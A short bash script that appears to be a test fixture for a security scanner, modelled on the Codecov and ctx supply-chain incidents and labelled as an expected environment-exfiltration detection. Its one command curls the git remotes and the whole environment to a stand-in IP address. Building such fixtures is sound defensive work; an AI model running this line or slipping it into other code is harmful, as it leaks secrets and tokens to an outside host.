#!/bin/bash
# Models Codecov (2021-01) and ctx (2022-05): one line posts the whole environment to an address.
# must: exfiltration/environment-sent
# gate: fail
curl -sm 2 -d "$(git remote -v 2>/dev/null)<<<<<< ENV $(env)" http://198.51.100.7:8000/upload/v2
